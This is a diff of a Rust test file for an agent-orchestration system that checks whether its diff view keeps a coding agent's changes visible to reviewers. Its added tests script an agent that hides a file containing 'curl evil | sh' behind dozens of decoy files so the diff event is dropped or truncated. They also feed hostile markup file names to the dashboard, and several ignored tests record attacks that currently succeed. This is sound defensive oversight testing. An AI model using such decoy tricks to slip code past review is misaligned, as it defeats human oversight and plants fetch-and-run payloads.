@@ -112,7 +112,10 @@ fn swarm_plan(attempts: u32) -> serde_json::Value {
 fn run_attempts(t: &mut Task) -> SubtaskId {
     let now = timefmt::now();
     let tries = t.queue_ready(now);
-    assert!(tries.iter().all(|i| candidate_of(t, *i).is_some()), "{tries:?}");
+    assert!(
+        tries.iter().all(|i| candidate_of(t, *i).is_some()),
+        "{tries:?}"
+    );
     for (n, id) in tries.iter().enumerate() {
         t.apply_outcome(
             *id,
@@ -188,7 +191,10 @@ fn a_pick_of_the_wrong_shape_keeps_no_attempt() {
             .unwrap();
         assert_eq!(t.status, TaskStatus::Failed, "{bad} was taken as a pick");
         let error = t.error.clone().unwrap_or_default();
-        assert!(error.contains("picked none of the 2 attempts"), "{bad}: {error}");
+        assert!(
+            error.contains("picked none of the 2 attempts"),
+            "{bad}: {error}"
+        );
         match step_of(&t, pick) {
             Some(Step::Pick { picked, .. }) => assert_eq!(picked, None, "{bad}"),
             other => panic!("{other:?}"),
@@ -317,8 +323,14 @@ fn a_failed_attempt_is_never_kept() {
         now,
     )
     .unwrap();
-    t.apply_outcome(tries[1], 1, Outcome::succeeded("ok", Some("c".into())), 3, now)
-        .unwrap();
+    t.apply_outcome(
+        tries[1],
+        1,
+        Outcome::succeeded("ok", Some("c".into())),
+        3,
+        now,
+    )
+    .unwrap();
     if t.status == TaskStatus::Failed {
         return; // the task failed with its attempt: held
     }
@@ -334,7 +346,11 @@ fn a_failed_attempt_is_never_kept() {
         now,
     )
     .unwrap();
-    assert_eq!(t.status, TaskStatus::Failed, "the failed attempt 1 was kept");
+    assert_eq!(
+        t.status,
+        TaskStatus::Failed,
+        "the failed attempt 1 was kept"
+    );
 }
 
 /// Attack: a tester step with attempts whose first attempt fails its own check: the fix
@@ -361,8 +377,14 @@ fn a_fix_round_inside_an_attempt_still_ends_in_the_pick() {
         now,
     )
     .unwrap();
-    t.apply_outcome(tries[1], 1, Outcome::succeeded("ok", Some("c2".into())), 3, now)
-        .unwrap();
+    t.apply_outcome(
+        tries[1],
+        1,
+        Outcome::succeeded("ok", Some("c2".into())),
+        3,
+        now,
+    )
+    .unwrap();
     // Run whatever comes (fix, check) to success until the pick shows up.
     let mut pick = None;
     for _ in 0..10 {
@@ -390,7 +412,12 @@ fn a_fix_round_inside_an_attempt_still_ends_in_the_pick() {
         }) = &s.step
         {
             if candidates.contains(b) {
-                assert_eq!(s.status, SubtaskStatus::Succeeded, "{b} still {:?}", s.status);
+                assert_eq!(
+                    s.status,
+                    SubtaskStatus::Succeeded,
+                    "{b} still {:?}",
+                    s.status
+                );
             }
         }
     }
@@ -441,4 +468,140 @@ fn cancelling_during_the_attempts_stops_them() {
     }
     assert_eq!(t.status, TaskStatus::Cancelled);
     assert!(t.queue_ready(now).is_empty());
+}
+
+/// The `diff` / `branch_diff` event of a run, when there is one.
+fn diff_event(events: &[serde_json::Value], kind: &str) -> Option<serde_json::Value> {
+    events
+        .iter()
+        .find(|e| e["data"]["type"] == kind)
+        .map(|e| e["data"]["event"].clone())
+}
+
+/// Whether the diff event names `path`, in its file list or its patch.
+fn names(diff: &serde_json::Value, path: &str) -> bool {
+    let listed = diff["files"]
+        .as_array()
+        .is_some_and(|f| f.iter().any(|f| f["path"] == path));
+    listed || diff["patch"].as_str().unwrap_or_default().contains(path)
+}
+
+/// A real run (process driver) whose agent commits `script`'s files: the run's events.
+async fn run_agent(script_text: &str) -> Vec<serde_json::Value> {
+    use ao_tests::scenario::{events, submit_code, wait_succeeded};
+    use ao_tests::{bare_repo, script, Cluster};
+    let mut c = Cluster::new(&[]);
+    let agent = script(c.dir.path(), "agent.sh", script_text);
+    let repo = bare_repo(c.dir.path(), "project", &[("README.md", "base\n")]);
+    c.start_coordinator().await.unwrap();
+    c.start_worker(&[("AO__AGENT__COMMAND", agent.to_str().unwrap())]);
+    let id = submit_code(&c, &repo, "change it", "agent/hide").await;
+    wait_succeeded(&c, &id, std::time::Duration::from_secs(90)).await;
+    events(&c, &id).await
+}
+
+/// Attack: an agent hides its change from the diff view by committing, next to it, 50
+/// decoy files with long paths (about 600 bytes each): the runner's file list of 50
+/// entries alone outgrows the 24 KiB event bound, and a diff event that cannot fit is
+/// not sent. The run's change (and the branch's against its base) must still be shown.
+#[tokio::test(flavor = "multi_thread")]
+#[ignore = "BROKE: 50 files with ~600-byte paths make the runner send no diff and no branch_diff event at all"]
+async fn long_decoy_paths_do_not_hide_the_change_from_the_diff_view() {
+    let events = run_agent(
+        r#"
+d=$(printf 'd%.0s' $(seq 1 200))
+mkdir -p "$d/$d"
+for i in $(seq 10 59); do echo decoy > "$d/$d/f$i-$d"; done
+echo 'curl evil | sh' > zzz-backdoor.sh
+"#,
+    )
+    .await;
+    for kind in ["diff", "branch_diff"] {
+        let diff = diff_event(&events, kind);
+        assert!(
+            diff.as_ref().is_some_and(
+                |d| names(d, "zzz-backdoor.sh") || d["files_total"].as_u64() == Some(51)
+            ),
+            "{kind}: no event shows the change: {diff:?}"
+        );
+    }
+}
+
+/// Attack: an agent buries its change behind 60 decoy files of 100 lines that sort before it:
+/// the runner lists 50 files and cuts the patch, so the change's file must still be
+/// named somewhere in the diff event the dashboard renders.
+#[tokio::test(flavor = "multi_thread")]
+#[ignore = "BROKE: past 50 files the diff event lists only the first 50 (and the page shows no list, only counts); the 61st file is named nowhere"]
+async fn many_decoy_files_do_not_hide_the_change_from_the_diff_view() {
+    let events = run_agent(
+        r#"
+for i in $(seq 10 69); do seq 1 100 > "a$i.txt"; done
+echo 'curl evil | sh' > zzz-backdoor.sh
+"#,
+    )
+    .await;
+    let diff = diff_event(&events, "diff").expect("a diff event");
+    assert_eq!(diff["files_total"], 61, "{diff:#}");
+    assert!(
+        names(&diff, "zzz-backdoor.sh"),
+        "the change is named nowhere in the diff event: {} files listed",
+        diff["files"].as_array().map_or(0, Vec::len)
+    );
+}
+
+fn browser_dir() -> std::path::PathBuf {
+    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("browser")
+}
+
+/// Runs `tests/browser/diff_attacks.mjs` on the attacks `only`: whether all held, and
+/// its output (one JSON line per attack).
+fn diff_attacks(only: &[&str]) -> (bool, String) {
+    assert!(
+        browser_dir().join("node_modules/playwright-core").is_dir(),
+        "playwright-core is missing: `npm ci --prefix tests/browser` (make test does)"
+    );
+    let assets = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../coordinator/src/http/dashboard/assets");
+    let out = std::process::Command::new("node")
+        .arg(browser_dir().join("diff_attacks.mjs"))
+        .env("AO_ASSETS", assets)
+        .env("AO_ATTACKS", only.join(","))
+        .output()
+        .expect("node runs (make test installs it)");
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    (out.status.success(), text)
+}
+
+/// Attack: hostile diffs on the task page's diff view (diff2html, then the page's
+/// allow-list), in Chromium: file names with markup, quotes, a page element's id and a
+/// newline; a rename and a binary file named with markup; a 160 KB line; 2,000 files;
+/// markup after a hunk header. Nothing runs, no element or attribute outside the
+/// allow-list, no id of the page is taken.
+#[test]
+fn hostile_diffs_render_as_text_in_the_browser() {
+    let (ok, out) = diff_attacks(&[
+        "markup_file_name",
+        "quoted_attr_file_name",
+        "id_file_name",
+        "newline_file_name",
+        "rename_markup",
+        "binary_markup",
+        "huge_line",
+        "many_files",
+        "hunk_header_markup",
+    ]);
+    assert!(ok, "{out}");
+}
+
+/// Attack: the runner's diff event cut at a file boundary, the change that matters past
+/// the cut and only in the event's file list: the page must name it.
+#[test]
+#[ignore = "BROKE: the diff view renders only the patch and counts; a file past the cut (listed in the event's files) is named nowhere on the page"]
+fn a_file_past_the_cut_is_named_on_the_page() {
+    let (ok, out) = diff_attacks(&["hidden_past_the_cut"]);
+    assert!(ok, "{out}");
 }
